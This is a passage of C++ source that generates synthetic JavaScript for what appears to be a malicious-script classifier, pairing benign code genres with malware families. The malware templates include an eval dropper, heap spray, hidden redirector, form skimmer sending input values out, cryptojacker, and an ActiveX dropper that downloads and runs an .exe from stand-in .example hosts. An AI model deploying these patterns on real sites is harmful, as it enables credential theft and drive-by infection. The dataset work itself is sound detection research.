  s += "  if (errors.length > 0) {\n";
  s += "    event.preventDefault();\n";
  s += "    showErrors(errors);\n";
  s += "  }\n";
  s += "});\n";
  return s;
}

std::string util_fraction(Gen& g) {
  return "0." + std::to_string(g.num(1, 9));
}

std::string gen_animation(Gen& g) {
  const std::string el = g.fresh("sprite");
  std::string s;
  s += "var " + el + " = document.querySelector(\"." + g.noun() + "\");\n";
  s += "var startTime = null;\n";
  s += "var duration = " + std::to_string(g.num(300, 3000)) + ";\n";
  s += "function easeInOut(t) {\n";
  s += "  return t < 0.5 ? 2 * t * t : 1 - (2 - 2 * t) * (2 - 2 * t) / 2;\n";
  s += "}\n";
  s += "function step(timestamp) {\n";
  s += "  if (!startTime) { startTime = timestamp; }\n";
  s += "  var progress = (timestamp - startTime) / duration;\n";
  s += "  if (progress > 1) { progress = 1; }\n";
  s += "  var eased = easeInOut(progress);\n";
  s += "  " + el + ".style.left = Math.round(eased * " +
       std::to_string(g.num(100, 800)) + ") + \"px\";\n";
  s += "  " + el + ".style.opacity = String(1 - eased * " +
       util_fraction(g) + ");\n";
  s += "  if (progress < 1) { requestAnimationFrame(step); }\n";
  s += "}\n";
  s += "requestAnimationFrame(step);\n";
  return s;
}

std::string gen_date_format(Gen& g) {
  // Mirrors the paper's Listing-1 flavor: timezone/date formatting helpers.
  // Benign code legitimately carries string arrays (month names, locales).
  std::string s;
  s += "var monthNames = [\"Jan\", \"Feb\", \"Mar\", \"Apr\", \"May\", "
       "\"Jun\", \"Jul\", \"Aug\", \"Sep\", \"Oct\", \"Nov\", \"Dec\"];\n";
  s += "var dayNames = [\"Sun\", \"Mon\", \"Tue\", \"Wed\", \"Thu\", "
       "\"Fri\", \"Sat\"];\n";
  s += "function pad(n) {\n";
  s += "  return n < 10 ? \"0\" + n : String(n);\n";
  s += "}\n";
  s += "function getTimezoneOffsetString(dateStr) {\n";
  s += "  var timeZoneMinutes = new Date(dateStr).getTimezoneOffset();\n";
  s += "  var hours = Math.floor(timeZoneMinutes / 60);\n";
  s += "  var minutes = timeZoneMinutes % 60;\n";
  s += "  if (hours < 0) {\n";
  s += "    return \"-\" + pad(-hours) + \":\" + pad(minutes);\n";
  s += "  } else {\n";
  s += "    return \"+\" + pad(hours) + \":\" + pad(minutes);\n";
  s += "  }\n";
  s += "}\n";
  const std::string fmt = g.fresh("format");
  s += "function " + fmt + "(date) {\n";
  s += "  var y = date.getFullYear();\n";
  s += "  var m = pad(date.getMonth() + 1);\n";
  s += "  var d = pad(date.getDate());\n";
  const std::string sep = g.rng.chance(0.5) ? "-" : "/";
  s += "  return y + \"" + sep + "\" + m + \"" + sep + "\" + d;\n";
  s += "}\n";
  s += "var label" + std::to_string(g.num(0, 99)) + " = " + fmt +
       "(new Date()) + \" \" + getTimezoneOffsetString(\"2020-01-01\");\n";
  return s;
}

std::string gen_prototype_class(Gen& g) {
  const std::string cls = g.fresh("Model");
  std::string s;
  s += "function " + cls + "(name, options) {\n";
  s += "  this.name = name;\n";
  s += "  this.options = options || {};\n";
  s += "  this.listeners = [];\n";
  s += "}\n";
  const int nmethods = g.num(2, 5);
  for (int i = 0; i < nmethods; ++i) {
    const std::string m = g.camel(g.verb(), g.noun()) + std::to_string(i);
    switch (g.rng.below(3)) {
      case 0:
        s += cls + ".prototype." + m + " = function(listener) {\n";
        s += "  this.listeners.push(listener);\n";
        s += "  return this;\n";
        s += "};\n";
        break;
      case 1:
        s += cls + ".prototype." + m + " = function(payload) {\n";
        s += "  for (var i = 0; i < this.listeners.length; i++) {\n";
        s += "    this.listeners[i].call(this, payload);\n";
        s += "  }\n";
        s += "};\n";
        break;
      default:
        s += cls + ".prototype." + m + " = function(key, fallback) {\n";
        s += "  var value = this.options[key];\n";
        s += "  return value === undefined ? fallback : value;\n";
        s += "};\n";
        break;
    }
  }
  s += "var instance" + std::to_string(g.num(0, 99)) + " = new " + cls +
       "(\"" + g.noun() + "\", {cacheSize: " + std::to_string(g.num(8, 256)) +
       "});\n";
  return s;
}

// Benign structural twins of the malicious families. Real benign corpora
// share statement-level skeletons with malware — legacy XHR shims probe
// ActiveXObject in try/catch chains, color parsers run parseInt/substr
// loops, autosave serializes form fields, text utilities double strings in
// while loops. What separates the classes is what the data is used FOR
// (eval/exfil vs. rendering), i.e. expression- and value-level detail.

std::string gen_hex_parser(Gen& g) {
  // Color/binary parsing: same substr+parseInt+fromCharCode loop skeleton
  // as a dropper's decode loop, but feeding rendering instead of eval.
  const std::string fn = g.fresh("parseColor");
  std::string s;
  s += "function " + fn + "(hex) {\n";
  s += "  var channels = [];\n";
  s += "  for (var i = 1; i < hex.length; i += 2) {\n";
  s += "    var part = parseInt(hex.substr(i, 2), 16);\n";
  s += "    channels.push(part);\n";
  s += "  }\n";
  s += "  return \"rgb(\" + channels.join(\",\") + \")\";\n";
  s += "}\n";
  s += "function decodeEntities(text) {\n";
  s += "  var out = \"\";\n";
  s += "  for (var i = 0; i < text.length; i++) {\n";
  s += "    var code = text.charCodeAt(i);\n";
  s += "    if (code > 127) { out += \"&#\" + code + \";\"; }\n";
  s += "    else { out += String.fromCharCode(code); }\n";
  s += "  }\n";
  s += "  return out;\n";
  s += "}\n";
  s += "document.body.style.background = " + fn + "(\"#" +
       std::to_string(g.num(100000, 999999)) + "\");\n";
  return s;
}

std::string gen_text_fill(Gen& g) {
  // String doubling/padding: the heap-spray while-doubling skeleton used
  // for a separator line / placeholder text.
  const std::string v = g.fresh("filler");
  std::string s;
  s += "var " + v + " = \"" + std::string(1, static_cast<char>('a' + g.num(0, 25))) + "\";\n";
  s += "while (" + v + ".length < " + std::to_string(g.num(40, 200)) + ") {\n";
  s += "  " + v + " += " + v + ";\n";
  s += "}\n";
  s += v + " = " + v + ".substring(0, " + std::to_string(g.num(20, 80)) +
       ");\n";
  s += "var placeholders = new Array();\n";
  s += "for (var i = 0; i < " + std::to_string(g.num(3, 12)) + "; i++) {\n";
  s += "  placeholders[i] = " + v + " + \" \" + i;\n";
  s += "}\n";
  return s;
}

std::string gen_xhr_shim(Gen& g) {
  // Legacy cross-browser XHR factory: try/catch ActiveXObject probing —
  // the classic benign skeleton shared with ActiveX droppers.
  const std::string fn = g.fresh("createXhr");
  std::string s;
  s += "function " + fn + "() {\n";
  s += "  var candidates = [\"Msxml2.XMLHTTP\", \"Microsoft.XMLHTTP\"];\n";
  s += "  if (window.XMLHttpRequest) { return new XMLHttpRequest(); }\n";
  s += "  for (var i = 0; i < candidates.length; i++) {\n";
  s += "    try {\n";
  s += "      return new ActiveXObject(candidates[i]);\n";
  s += "    } catch (e) {\n";
  s += "      continue;\n";
  s += "    }\n";
  s += "  }\n";
  s += "  return null;\n";
  s += "}\n";
  s += "var transport" + std::to_string(g.num(0, 9)) + " = " + fn + "();\n";
  return s;
}

std::string gen_form_autosave(Gen& g) {
  // Reads every form field and ships it to the app's own API — the
  // skimmer skeleton with a legitimate destination.
  const std::string buf = g.fresh("draft");
  std::string s;
  s += "var " + buf + " = [];\n";
  s += "function collectDraft() {\n";
  s += "  var inputs = document.getElementsByTagName(\"input\");\n";
  s += "  for (var i = 0; i < inputs.length; i++) {\n";
  s += "    if (inputs[i].name && inputs[i].value) {\n";
  s += "      " + buf + ".push(inputs[i].name + \"=\" + "
       "encodeURIComponent(inputs[i].value));\n";
  s += "    }\n";
  s += "  }\n";
  s += "}\n";
  s += "function saveDraft() {\n";
  s += "  if (" + buf + ".length === 0) { return; }\n";
  s += "  var xhr = new XMLHttpRequest();\n";
  s += "  xhr.open(\"POST\", \"/api/draft\", true);\n";
  s += "  xhr.send(" + buf + ".join(\"&\"));\n";
  s += "  " + buf + " = [];\n";
  s += "}\n";
  s += "document.addEventListener(\"change\", collectDraft);\n";
  s += "setInterval(saveDraft, " + std::to_string(g.num(5000, 30000)) +
       ");\n";
  return s;
}

std::string gen_login_redirect(Gen& g) {
  // URL building + location redirect for auth flows: redirector skeleton
  // with a legitimate same-site destination.
  std::string s;
  s += "var returnTo = encodeURIComponent(location.pathname + "
       "location.search);\n";
  s += "var loginUrl = \"/account/login?next=\" + returnTo;\n";
  s += "function requireAuth(session) {\n";
  s += "  if (!session || !session.token) {\n";
  if (g.rng.chance(0.5)) {
    s += "    window.location.href = loginUrl;\n";
  } else {
    s += "    setTimeout(function() { location.replace(loginUrl); }, " +
         std::to_string(g.num(50, 500)) + ");\n";
  }
  s += "    return false;\n";
  s += "  }\n";
  s += "  return true;\n";
  s += "}\n";
  return s;
}

std::string gen_vector_math(Gen& g) {
  // Numeric utility code: identifier-dense arithmetic indistinguishable at
  // the AST-kind level from decode/hash loops.
  const std::string ns = g.fresh("vec");
  std::string s;
  s += "function " + ns + "Dot(a, b) {\n";
  s += "  var sum = 0;\n";
  s += "  for (var i = 0; i < a.length; i++) {\n";
  s += "    sum = sum + a[i] * b[i];\n";
  s += "  }\n";
  s += "  return sum;\n";
  s += "}\n";
  s += "function " + ns + "Lerp(a, b, t) {\n";
  s += "  var out = [];\n";
  s += "  for (var i = 0; i < a.length; i++) {\n";
  s += "    var d = b[i] - a[i];\n";
  s += "    out[i] = a[i] + d * t;\n";
  s += "  }\n";
  s += "  return out;\n";
  s += "}\n";
  if (g.rng.chance(0.6)) {
    s += "function " + ns + "Norm(a) {\n";
    s += "  var m = Math.sqrt(" + ns + "Dot(a, a));\n";
    s += "  var out = [];\n";
    s += "  var i = 0;\n";
    s += "  while (i < a.length) {\n";
    s += "    out[i] = a[i] / m;\n";
    s += "    i = i + 1;\n";
    s += "  }\n";
    s += "  return out;\n";
    s += "}\n";
  }
  return s;
}

std::string gen_checksum(Gen& g) {
  // CRC/hash utility: shift/xor loops structurally identical to a
  // cryptojacker's hash step or a dropper's key schedule.
  const std::string fn = g.fresh("crc");
  const int poly = g.num(1000, 999999);
  std::string s;
  s += "function " + fn + "(data) {\n";
  s += "  var h = " + std::to_string(g.num(1, 255)) + ";\n";
  if (g.rng.chance(0.5)) {
    s += "  for (var i = 0; i < data.length; i++) {\n";
    s += "    h = h ^ data.charCodeAt(i);\n";
    s += "    for (var b = 0; b < 8; b++) {\n";
    s += "      h = (h >>> 1) ^ ((h & 1) * " + std::to_string(poly) + ");\n";
    s += "    }\n";
    s += "  }\n";
  } else {
    s += "  var i = 0;\n";
    s += "  while (i < data.length) {\n";
    s += "    h = (h << 5) - h + data.charCodeAt(i);\n";
    s += "    h = h & h;\n";
    s += "    h = h ^ (h >>> " + std::to_string(g.num(3, 13)) + ");\n";
    s += "    i++;\n";
    s += "  }\n";
  }
  s += "  return h >>> 0;\n";
  s += "}\n";
  s += "var etag" + std::to_string(g.num(0, 99)) + " = " + fn +
       "(document.title).toString(16);\n";
  return s;
}

std::string gen_codec(Gen& g) {
  // Base-N encoder/decoder: substr/parseInt/fromCharCode loops — the same
  // expression inventory as payload decoders, used for benign data packing.
  const std::string enc = g.fresh("pack");
  const std::string dec = g.fresh("unpack");
  std::string s;
  s += "function " + enc + "(text) {\n";
  s += "  var out = \"\";\n";
  s += "  for (var i = 0; i < text.length; i++) {\n";
  s += "    var code = text.charCodeAt(i);\n";
  s += "    var hi = (code >> 4) & 15;\n";
  s += "    var lo = code & 15;\n";
  s += "    out += hi.toString(16) + lo.toString(16);\n";
  s += "  }\n";
  s += "  return out;\n";
  s += "}\n";
  s += "function " + dec + "(blob) {\n";
  s += "  var out = \"\";\n";
  if (g.rng.chance(0.5)) {
    s += "  for (var i = 0; i < blob.length; i += 2) {\n";
    s += "    var code = parseInt(blob.substr(i, 2), 16);\n";
    s += "    out += String.fromCharCode(code);\n";
    s += "  }\n";
  } else {
    s += "  var i = 0;\n";
    s += "  while (i < blob.length) {\n";
    s += "    out += String.fromCharCode(parseInt(blob.substr(i, 2), 16));\n";
    s += "    i += 2;\n";
    s += "  }\n";
  }
  s += "  return out;\n";
  s += "}\n";
  s += "localStorage.setItem(\"" + g.noun() + "\", " + enc +
       "(JSON.stringify({version: " + std::to_string(g.num(1, 9)) +
       "})));\n";
  return s;
}

std::string gen_prng(Gen& g) {
  // Seeded PRNG (games/simulations): multiply/mask loops.
  const std::string fn = g.fresh("rand");
  std::string s;
  s += "var seed" + std::to_string(g.num(0, 9)) + " = " +
       std::to_string(g.num(1, 100000)) + ";\n";
  s += "function " + fn + "(state) {\n";
  s += "  state = (state * " + std::to_string(g.num(1000, 99999)) + " + " +
       std::to_string(g.num(1, 12345)) + ") % 2147483647;\n";
  s += "  var value = state / 2147483647;\n";
  s += "  return {state: state, value: value};\n";
  s += "}\n";
  s += "function shuffle" + std::to_string(g.num(0, 9)) + "(list, state) {\n";
  s += "  for (var i = list.length - 1; i > 0; i--) {\n";
  s += "    var r = " + fn + "(state);\n";
  s += "    state = r.state;\n";
  s += "    var j = Math.floor(r.value * (i + 1));\n";
  s += "    var tmp = list[i];\n";
  s += "    list[i] = list[j];\n";
  s += "    list[j] = tmp;\n";
  s += "  }\n";
  s += "  return list;\n";
  s += "}\n";
  return s;
}

std::string gen_benign_edgecase(Gen& g) {
  // Legacy benign patterns that overlap with malicious signals: script
  // injection via document.write, cookie escape/unescape handling, and
  // charCode-based cache keys. Real benign corpora are full of these, which
  // is what keeps the classification problem from being trivially separable.
  std::string s;
  switch (g.rng.below(3)) {
    case 0: {
      // Legacy analytics loader.
      const std::string host = g.noun() + "-cdn.example";
      s += "var proto = document.location.protocol === \"https:\" ? "
           "\"https://\" : \"http://\";\n";
      s += "document.write(unescape(\"%3Cscript src='\" + proto + \"" + host +
           "/tag.js'%3E%3C/script%3E\"));\n";
      break;
    }
    case 1: {
      // Cookie utilities with escape/unescape.
      s += "function readCookie(name) {\n";
      s += "  var parts = document.cookie.split(\";\");\n";
      s += "  for (var i = 0; i < parts.length; i++) {\n";
      s += "    var pair = parts[i].split(\"=\");\n";
      s += "    if (pair[0].replace(/^ +/, \"\") === name) {\n";
      s += "      return unescape(pair[1]);\n";
      s += "    }\n";
      s += "  }\n";
      s += "  return null;\n";
      s += "}\n";
      s += "function writeCookie(name, value, days) {\n";
      s += "  var expires = new Date();\n";
      s += "  expires.setTime(expires.getTime() + days * 86400000);\n";
      s += "  document.cookie = name + \"=\" + escape(value) + "
           "\"; expires=\" + expires.toGMTString();\n";
      s += "}\n";
      break;
    }
    default: {
      // String-hash cache keys (charCodeAt loops look "decode-ish").
      s += "function hashKey(text) {\n";
      s += "  var h = " + std::to_string(g.num(3, 97)) + ";\n";
      s += "  for (var i = 0; i < text.length; i++) {\n";
      s += "    h = (h * 31 + text.charCodeAt(i)) & 0x7fffffff;\n";
      s += "  }\n";
      s += "  return h.toString(16);\n";
      s += "}\n";
      s += "var cacheBust = hashKey(location.href) + \"-\" + "
           "String.fromCharCode(" + std::to_string(g.num(97, 122)) + ");\n";
      break;
    }
  }
  return s;
}

// ---------------------------------------------------------------------------
// Malicious families — code that *manipulates data*: decode loops, integer
// arithmetic on buffers/strings, conditional assignment chains, exfil.
// ---------------------------------------------------------------------------

std::string hex_blob(Gen& g, int len) {
  static constexpr char kHex[] = "0123456789abcdef";
  std::string s;
  for (int i = 0; i < len; ++i) s += kHex[g.rng.below(16)];
  return s;
}

std::string gen_dropper(Gen& g) {
  // Encoded-payload dropper: charcode arithmetic decode loop feeding eval.
  // Heavily polymorphic: loop style, decode operator, chunk width, and sink
  // all vary per sample (real droppers come in thousands of variants, so no
  // single statement skeleton identifies the family).
  const std::string payload = g.fresh("p");
  const std::string out = g.fresh("d");
  const std::string idx = g.fresh("i");
  const std::string key = g.fresh("k");
  const int width = g.rng.chance(0.5) ? 2 : 4;
  std::string s;
  s += "var " + payload + " = \"" + hex_blob(g, g.num(120, 400)) + "\";\n";
  s += "var " + out + " = \"\";\n";
  s += "var " + key + " = " + std::to_string(g.num(1, 60)) + ";\n";

  std::string decode;
  decode += "  var code = parseInt(" + payload + ".substr(" + idx + ", " +
            std::to_string(width) + "), 16);\n";
  switch (g.rng.below(3)) {
    case 0:
      decode += "  code = (code ^ " + key + ") & 255;\n";
      break;
    case 1:
      decode += "  code = (code - " + key + " + 256) % 256;\n";
      break;
    default:
      decode += "  code = (code + " + key + " * " +
                std::to_string(g.num(2, 9)) + ") & 255;\n";
      break;
  }
  if (g.rng.chance(0.6)) {
    decode += "  if (code < 32) { code = code + 32; }\n";
  }
  decode += "  " + out + " += String.fromCharCode(code);\n";
  if (g.rng.chance(0.7)) {
    decode += "  " + key + " = (" + key + " + " +
              std::to_string(g.num(1, 7)) + ") % 256;\n";
  }

  switch (g.rng.below(3)) {
    case 0:
      s += "for (var " + idx + " = 0; " + idx + " < " + payload +
           ".length; " + idx + " += " + std::to_string(width) + ") {\n" +
           decode + "}\n";
      break;
    case 1:
      s += "var " + idx + " = 0;\n";
      s += "while (" + idx + " < " + payload + ".length) {\n" + decode +
           "  " + idx + " += " + std::to_string(width) + ";\n}\n";
      break;
    default:
      s += "var " + idx + " = 0;\n";
      s += "do {\n" + decode + "  " + idx + " += " +
           std::to_string(width) + ";\n} while (" + idx + " < " + payload +
           ".length);\n";
      break;
  }

  switch (g.rng.below(4)) {
    case 0:
      s += "var f = new Function(" + out + ");\nf();\n";
      break;
    case 1:
      s += "eval(" + out + ");\n";
      break;
    case 2:
      s += "window.setTimeout(" + out + ", " + std::to_string(g.num(1, 50)) +
           ");\n";
      break;
    default:
      s += "document.write(unescape(\"%3Cscript%3E\" + " + out +
           " + \"%3C/script%3E\"));\n";
      break;
  }
  return s;
}

std::string gen_heap_spray(Gen& g) {
  // Polymorphic: sled growth loop style, spray container, trigger variant.
  const std::string sled = g.fresh("sled");
  const std::string spray = g.fresh("spray");
  const std::string shell = g.fresh("sc");
  std::string s;
  s += "var " + sled + " = unescape(\"%u" + hex_blob(g, 4) + "%u" +
       hex_blob(g, 4) + "\");\n";
  s += "var " + shell + " = unescape(\"%u" + hex_blob(g, 4) + "%u" +
       hex_blob(g, 4) + "%u" + hex_blob(g, 4) + "\");\n";
  const std::string target = std::to_string(g.num(60000, 200000));
  if (g.rng.chance(0.5)) {
    s += "while (" + sled + ".length < " + target + ") {\n";
    s += "  " + sled + " += " + sled + ";\n";
    s += "}\n";
  } else {
    s += "for (var r = 0; " + sled + ".length < " + target + "; r++) {\n";
    s += "  " + sled + " = " + sled + " + " + sled + ";\n";
    s += "}\n";
  }
  if (g.rng.chance(0.7)) {
    s += sled + " = " + sled + ".substring(0, " + sled + ".length - " +
         shell + ".length);\n";
  } else {
    s += sled + " = " + sled + ".substr(0, " + target + " - " + shell +
         ".length);\n";
  }
  s += "var " + spray + " = " +
       (g.rng.chance(0.5) ? "new Array()" : "[]") + ";\n";
  const std::string count = std::to_string(g.num(100, 600));
  if (g.rng.chance(0.5)) {
    s += "for (var i = 0; i < " + count + "; i++) {\n";
    s += "  " + spray + "[i] = " + sled + " + " + shell + ";\n";
    s += "}\n";
  } else {
    s += "var i = 0;\n";
    s += "while (i < " + count + ") {\n";
    s += "  " + spray + ".push(" + sled + " + " + shell + ");\n";
    s += "  i++;\n";
    s += "}\n";
  }
  switch (g.rng.below(3)) {
    case 0:
      s += "var trigger = document.createElement(\"object\");\n";
      s += "trigger.setAttribute(\"classid\", \"clsid:" + hex_blob(g, 8) +
           "-" + hex_blob(g, 4) + "\");\n";
      s += "document.body.appendChild(trigger);\n";
      break;
    case 1:
      s += "var holder = document.createElement(\"embed\");\n";
      s += "holder.src = \"" + hex_blob(g, 10) + ".swf\";\n";
      s += "document.body.appendChild(holder);\n";
      break;
    default:
      break;  // spray only; trigger delivered elsewhere
  }
  return s;
}

std::string gen_redirector(Gen& g) {
  // Polymorphic: host encoding, UA gating, and redirect sink all vary.
  const std::string host = g.fresh("h");
  const std::string domain =
      "evil" + std::to_string(g.num(10, 99)) + ".example";
  std::string s;
  switch (g.rng.below(3)) {
    case 0: {
      s += "var " + host + " = String.fromCharCode(";
      for (std::size_t i = 0; i < domain.size(); ++i) {
        if (i) s += ", ";
        s += std::to_string(static_cast<int>(domain[i]));
      }
      s += ");\n";
      break;
    }
    case 1: {
      // Reversed-string reassembly.
      std::string reversed(domain.rbegin(), domain.rend());
      s += "var " + host + " = \"" + reversed +
           "\".split(\"\").reverse().join(\"\");\n";
      break;
    }
    default: {
      // Concatenated fragments.
      s += "var " + host + " = ";
      for (std::size_t i = 0; i < domain.size(); i += 3) {
        if (i) s += " + ";
        s += "\"" + domain.substr(i, 3) + "\"";
      }
      s += ";\n";
      break;
    }
  }
  s += "var path = \"/" + hex_blob(g, g.num(6, 16)) + "\";\n";
  if (g.rng.chance(0.6)) s += "var ref = document.referrer;\n";
  s += "var target = \"http://\" + " + host + " + path" +
       (g.rng.chance(0.6) ? " + \"?r=\" + encodeURIComponent(ref)" : "") +
       ";\n";
  switch (g.rng.below(4)) {
    case 0:
      s += "if (navigator.userAgent.indexOf(\"Windows\") !== -1) {\n";
      s += "  window.location.href = target;\n";
      s += "}\n";
      break;
    case 1:
      s += "var ifr = document.createElement(\"iframe\");\n";
      s += "ifr.width = 1;\n";
      s += "ifr.height = 1;\n";
      s += "ifr.src = target;\n";
      s += "document.body.appendChild(ifr);\n";
      break;
    case 2:
      s += "setTimeout(function() { top.location.replace(target); }, " +
           std::to_string(g.num(10, 900)) + ");\n";
      break;
    default:
      s += "document.write(\"<meta http-equiv='refresh' content='0;url=\" + "
           "target + \"'>\");\n";
      break;
  }
  return s;
}

std::string gen_web_skimmer(Gen& g) {
  // Polymorphic: harvesting selector, encoding step, and exfil channel vary.
  const std::string buf = g.fresh("grab");
  const std::string harvest = g.fresh("collect");
  const std::string exfil = g.fresh("ship");
  std::string s;
  s += "var " + buf + " = [];\n";
  s += "function " + harvest + "() {\n";
  if (g.rng.chance(0.5)) {
    s += "  var inputs = document.getElementsByTagName(\"input\");\n";
  } else {
    s += "  var inputs = document.querySelectorAll(\"input, select\");\n";
  }
  s += "  for (var i = 0; i < inputs.length; i++) {\n";
  s += "    var v = inputs[i].value;\n";
  s += "    var n = inputs[i].name;\n";
  s += "    if (v && v.length > " + std::to_string(g.num(2, 6)) + ") {\n";
  s += "      " + buf + ".push(n + \"=\" + v);\n";
  s += "    }\n";
  s += "  }\n";
  s += "}\n";
  s += "function " + exfil + "() {\n";
  s += "  if (" + buf + ".length === 0) { return; }\n";
  s += "  var blob = " + buf + ".join(\"&\");\n";
  const int key = g.num(1, 99);
  switch (g.rng.below(3)) {
    case 0:
      s += "  var enc = \"\";\n";
      s += "  for (var i = 0; i < blob.length; i++) {\n";
      s += "    enc += String.fromCharCode(blob.charCodeAt(i) ^ " +
           std::to_string(key) + ");\n";
      s += "  }\n";
      break;
    case 1:
      s += "  var enc = btoa(blob);\n";
      break;
    default:
      s += "  var enc = \"\";\n";
      s += "  var i = blob.length;\n";
      s += "  while (i--) { enc += blob.charAt(i); }\n";
      break;
  }
  switch (g.rng.below(3)) {
    case 0:
      s += "  var img = new Image();\n";
      s += "  img.src = \"//" + hex_blob(g, 8) +
           ".example/c.gif?d=\" + encodeURIComponent(enc);\n";
      break;
    case 1:
      s += "  var xhr = new XMLHttpRequest();\n";
      s += "  xhr.open(\"POST\", \"//" + hex_blob(g, 8) +
           ".example/s\", true);\n";
      s += "  xhr.send(enc);\n";
      break;
    default:
      s += "  var tag = document.createElement(\"script\");\n";
      s += "  tag.src = \"//" + hex_blob(g, 8) + ".example/j?d=\" + enc;\n";
      s += "  document.head.appendChild(tag);\n";
      break;
  }
  s += "  " + buf + " = [];\n";
  s += "}\n";
  if (g.rng.chance(0.5)) {
    s += "document.addEventListener(\"change\", " + harvest + ");\n";
  } else {
    s += "document.addEventListener(\"blur\", " + harvest + ", true);\n";
  }
  if (g.rng.chance(0.5)) {
    s += "setInterval(" + exfil + ", " + std::to_string(g.num(2000, 10000)) +
         ");\n";
  } else {
    s += "window.addEventListener(\"beforeunload\", " + exfil + ");\n";
  }
  return s;
}

std::string gen_cryptojacker(Gen& g) {
  const std::string worker = g.fresh("mine");
  std::string s;
  s += "var nonce = 0;\n";
  s += "var targetBits = " + std::to_string(g.num(8, 20)) + ";\n";
  s += "function hashStep(seed) {\n";
  s += "  var h = seed | 0;\n";
  s += "  for (var i = 0; i < 64; i++) {\n";
  s += "    h = (h << 5) - h + i;\n";
  s += "    h = h & h;\n";
  s += "    h = h ^ (h >>> 7);\n";
  s += "  }\n";
  s += "  return h >>> 0;\n";
  s += "}\n";
  s += "function " + worker + "() {\n";
  s += "  var found = 0;\n";
  const std::string budget = std::to_string(g.num(5000, 50000));
  if (g.rng.chance(0.5)) {
    s += "  for (var j = 0; j < " + budget + "; j++) {\n";
    s += "    nonce = nonce + 1;\n";
    s += "    var digest = hashStep(nonce);\n";
    s += "    if ((digest >>> (32 - targetBits)) === 0) {\n";
    s += "      found = nonce;\n";
    s += "      break;\n";
    s += "    }\n";
    s += "  }\n";
  } else {
    s += "  var j = 0;\n";
    s += "  while (j < " + budget + " && !found) {\n";
    s += "    nonce++;\n";
    s += "    j++;\n";
    s += "    if ((hashStep(nonce) >>> (32 - targetBits)) === 0) {\n";
    s += "      found = nonce;\n";
    s += "    }\n";
    s += "  }\n";
  }
  s += "  if (found) {\n";
  switch (g.rng.below(3)) {
    case 0:
      s += "    var ws = new WebSocket(\"wss://" + hex_blob(g, 6) +
           ".example/pool\");\n";
      s += "    ws.onopen = function() { ws.send(\"share:\" + found); };\n";
      break;
    case 1:
      s += "    var xhr = new XMLHttpRequest();\n";
      s += "    xhr.open(\"POST\", \"//" + hex_blob(g, 6) +
           ".example/share\", true);\n";
      s += "    xhr.send(String(found));\n";
      break;
    default:
      s += "    var beacon = new Image();\n";
      s += "    beacon.src = \"//" + hex_blob(g, 6) +
           ".example/b.gif?n=\" + found;\n";
      break;
  }
  s += "  }\n";
  if (g.rng.chance(0.5)) {
    s += "  setTimeout(" + worker + ", " + std::to_string(g.num(10, 200)) +
         ");\n";
  } else {
    s += "  window.requestAnimationFrame ? requestAnimationFrame(" + worker +
         ") : setTimeout(" + worker + ", 16);\n";
  }
  s += "}\n";
  s += worker + "();\n";
  return s;
}

std::string gen_activex_dropper(Gen& g) {
  // Polymorphic: probing style (loop vs unrolled try chains), download and
  // execution variants.
  const std::string sh = g.fresh("sh");
  std::string s;
  if (g.rng.chance(0.5)) {
    s += "var names = [\"WScript.Shell\", \"Scripting.FileSystemObject\", "
         "\"MSXML2.XMLHTTP\", \"ADODB.Stream\"];\n";
    s += "var " + sh + " = [];\n";
    s += "for (var i = 0; i < names.length; i++) {\n";
    s += "  try {\n";
    s += "    " + sh + "[i] = new ActiveXObject(names[i]);\n";
    s += "  } catch (e) {\n";
    s += "    " + sh + "[i] = null;\n";
    s += "  }\n";
    s += "}\n";
  } else {
    s += "var " + sh + " = [null, null, null, null];\n";
    s += "try { " + sh + "[0] = new ActiveXObject(\"WScript.Shell\"); } "
         "catch (e0) { }\n";
    s += "try { " + sh + "[2] = new ActiveXObject(\"MSXML2.XMLHTTP\"); } "
         "catch (e2) { }\n";
    s += "try { " + sh + "[3] = new ActiveXObject(\"ADODB.Stream\"); } "
         "catch (e3) { }\n";
  }
  const std::string url = "http://" + hex_blob(g, 8) + ".example/" +
                          hex_blob(g, 6) + ".bin";
  s += "if (" + sh + "[2]) {\n";
  s += "  var req = " + sh + "[2];\n";
  s += "  req.open(\"" + std::string(g.rng.chance(0.5) ? "GET" : "POST") +
       "\", \"" + url + "\", false);\n";
  s += "  req.send();\n";
  s += "  var body = req.responseBody;\n";
  s += "  var stream = " + sh + "[3];\n";
  s += "  stream.Type = 1;\n";
  s += "  stream.Open();\n";
  s += "  stream.Write(body);\n";
  s += "  var temp = \"%TEMP%\\\\" + hex_blob(g, 6) + ".exe\";\n";
  s += "  stream.SaveToFile(temp, 2);\n";
  if (g.rng.chance(0.5)) {
    s += "  if (" + sh + "[0]) { " + sh + "[0].Run(temp, 0, false); }\n";
  } else {
    s += "  if (" + sh + "[0]) {\n";
    s += "    var cmd = \"cmd.exe /c \" + temp;\n";
    s += "    " + sh + "[0].Exec(cmd);\n";
    s += "  }\n";
  }
  s += "}\n";
  return s;
}

// ---------------------------------------------------------------------------

using GenFn = std::string (*)(Gen&);

struct Genre {
  const char* name;
  GenFn fn;
};

constexpr std::array<Genre, 17> kBenignGenres = {{
    {"vector-math", gen_vector_math},
    {"checksum", gen_checksum},
    {"codec", gen_codec},
    {"prng", gen_prng},
    {"widget-config", gen_widget_config},
    {"dom-ui", gen_dom_ui},
    {"utility-module", gen_utility_module},
    {"ajax-wrapper", gen_ajax_wrapper},
    {"form-validation", gen_form_validation},
    {"animation", gen_animation},
    {"date-format", gen_date_format},
    {"prototype-class", gen_prototype_class},
    {"hex-parser", gen_hex_parser},
    {"text-fill", gen_text_fill},
    {"xhr-shim", gen_xhr_shim},
    {"form-autosave", gen_form_autosave},
    {"login-redirect", gen_login_redirect},
}};
static_assert(kBenignGenres.size() == 17);

constexpr std::array<Genre, 6> kMaliciousFamilies = {{
    {"dropper", gen_dropper},
    {"heap-spray", gen_heap_spray},
    {"redirector", gen_redirector},
    {"web-skimmer", gen_web_skimmer},
    {"cryptojacker", gen_cryptojacker},
    {"activex-dropper", gen_activex_dropper},
}};

}  // namespace

std::string generate_benign(Rng& rng, std::string* genre_out) {
  Gen g{rng, static_cast<int>(rng.below(100)) * 10};
  // Real benign files mix several concerns; compose 1-4 genre blocks
  // (overlapping the block-count range of carrier-infected malicious files
  // so file size does not leak the label).
  const int parts = 1 + static_cast<int>(rng.below(4));
  std::string src;
  std::string tag;
  for (int i = 0; i < parts; ++i) {
    const Genre& genre = kBenignGenres[rng.below(kBenignGenres.size())];
    if (i == 0) tag = genre.name;
    src += genre.fn(g);
    src += "\n";
  }
  // Legacy overlap patterns (document.write loaders, cookie escape/unescape,
  // charCode hashing) keep the benign class realistically ambiguous.
